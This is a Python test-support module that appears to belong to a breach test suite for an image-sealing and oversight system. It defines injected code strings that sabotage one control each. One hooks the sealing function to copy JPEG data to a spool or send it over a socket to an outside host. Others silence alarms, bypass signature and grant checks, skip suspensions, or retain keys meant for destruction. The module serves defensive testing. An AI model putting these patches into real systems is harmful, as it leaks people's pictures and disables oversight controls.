"""What a sabotage puts before a process's own code: one control switched off each, as whoever owns that computer can."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace

import pytest
from sqlalchemy import Connection

from wayseal.flow.oversee import standing
from wayseal.model.border import PlainImage
from wayseal.model.clock import utc_now
from wayseal.model.ids import new_ulid
from wayseal.station.keyroom import STANDING
from wayseal.station.keyroom_server import renew_trust
from wayseal.store.oversight.assessments import DrawnAssessment
from wayseal.testing.breach import Stage
from wayseal.testing.breach.cast import paint_person
from wayseal.testing.breach.oversight import TECHNICIAN
from wayseal.vision.picture import encode_picture, read_picture

SEAL = "import os, socket, itertools, wayseal.seal.device as d\n_seal = d.SealChain.seal\n_n = itertools.count()\n"
HOOKED = "def seal(self, body, **more):\n    if body[:3] == bytes.fromhex('ffd8ff'):\n        leak(body)\n    return _seal(self, body, **more)\nd.SealChain.seal = seal\n"
SPOOL = f"{SEAL}def leak(body):\n    open(os.environ['SPOOL'] + '/' + str(next(_n)) + '.tmp', 'wb').write(body)\n{HOOKED}"
UPLOAD = (
    f"{SEAL}def leak(body):\n    host, port = os.environ['CENTRE'].rsplit(':', 1)\n"
    f"    with socket.create_connection((host, int(port))) as line:\n        line.sendall(body)\n{HOOKED}"
)
NO_MARK = "import wayseal.flow.marking as m\nm.mark_at_lane = lambda key: (lambda data, record: data)\n"
NO_CANARY = "import wayseal.flow.canary as c\nc.CanaryBook.is_canary = lambda self, record: False\n"
NO_ALARM = (
    "import wayseal.flow.guard as g\n_init = g.Guard.__init__\n"
    "def init(self, meter, canaries, tell, shared_factor):\n"
    "    def quiet(entries):\n        kept = [one for one in entries if one['type'] != 'alarm']\n        return tell(kept) if kept else None\n"
    "    _init(self, meter, canaries, quiet, shared_factor)\ng.Guard.__init__ = init\n"
)
NO_METER = "import wayseal.flow.meter as m\nm.Meter.take = lambda self, *_, **__: []\n"
NO_SIGNATURE = "import wayseal.flow.vouch as v\nv.Vouchers._is_vouched = lambda self, *_: True\n"
NO_STANDING = "import wayseal.flow.standing as s\ns.Standings._apply_status = lambda self, *_: None\n"
NAMES_SUFFICE = "import wayseal.flow.standing as s\ns.Standings.must_settle = property(lambda self: False)\n"
UNASKED = "import wayseal.flow.vouch as v\nv.Vouchers.is_granted = lambda *_: True\n"
NO_SUSPENDED_LANE = "import wayseal.flow.oversee.fitness as f\nf.is_suspended = lambda *_: False\n"
KEPT_KEYS = (
    "import wayseal.seal.keys.vault as v\nfrom wayseal.model.clock import utc_now\n"
    "v.EpochVault.destroy = lambda self, epoch: v.Tombstone(epoch, v.sha256(self.read_pair(epoch)[0]).hex(), utc_now())\n"
)
AT_THE_DOOR = (
    "ask-for-pictures", "keep-plates", "post-exported", "post-viewed", "post-taken", "work-on", "come-back", "restore-backup",
    "take-drawings", "raid-running-centre",
)  # fmt: skip
SIGN_ANYTHING = (
    "import wayseal.ledger.witness as w\n"
    "w.Witness._judge = lambda self, submission: self._cosign(submission, 1)\n"
)
SEARCHING = (
    "look-at-lane-disk", "copy-lane-disk", "tap-the-wire", "keep-plates", "take-centre-disk", "restore-backup", "take-drawings",
)  # fmt: skip
OPEN_TO_VENDORS = 'permit (principal in Role::"vendor", action == Action::"open", resource);'


@contextmanager
def keyroom_with(stage: Stage, code: str) -> Iterator[None]:
    """Let the keyroom's process run with a control switched off, and start a sound one afterwards, which reads the ledger for itself."""
    stage.start_keyroom(code)
    try:
        yield
    finally:
        stage.running.pop("keyroom").end()
        (stage.home / "keyroom" / STANDING).unlink(missing_ok=True)
        stage.start_keyroom()


def plain(_: object, picture: bytes, *__: object) -> PlainImage:
    """A mark that is none: the picture is encoded again, and that is all."""
    return encode_picture(read_picture(picture), quality=92)


def picture_of() -> bytes:
    """A picture of nobody."""
    return encode_picture(paint_person((1, 2, 3)), quality=92).data


def put_in_force(stage: Stage, rules: str) -> None:
    """Change the site's rules as an administrator would, with the keyroom stopped."""
    (stage.home / "policy" / "site.cedar").write_text(rules, encoding="utf-8")
    stage.running.pop("keyroom").end()
    renew_trust(stage.home, stage.secrets["keyroom"].read_bytes(), stage.site.settings, utc_now)
    stage.start_keyroom()
    stage.site.__dict__.pop("policy", None)


def put_out(monkeypatch: pytest.MonkeyPatch, stage: Stage, control: str) -> None:
    """Switch one of the reinstatement's questions off."""
    room = "wayseal.flow.oversee.standing"
    if control == "_fresh_assessment":
        monkeypatch.setattr(f"{room}.{control}", lambda *_: new_ulid(stage.site.clock()))
    elif control == "_check_approvers":
        monkeypatch.setattr(f"{room}.{control}", lambda *_: None)
        monkeypatch.setattr("wayseal.station.overseer.must_settle", lambda _: False)
        monkeypatch.setattr("wayseal.flow.oversee.desk.SIGNED", "nothing-of-that-name")
    else:  # a full assessment counts, whatever came of it
        newest = standing.latest_full

        def pass_all(rows: Connection, device: str) -> DrawnAssessment | None:
            found = newest(rows, device)
            return None if found is None else replace(found, passed=True)

        monkeypatch.setattr(f"{room}.latest_full", pass_all)


def is_suspended(stage: Stage) -> bool:
    """Say whether the vendor is suspended."""
    return stage.site.principal(TECHNICIAN, "officer").suspended
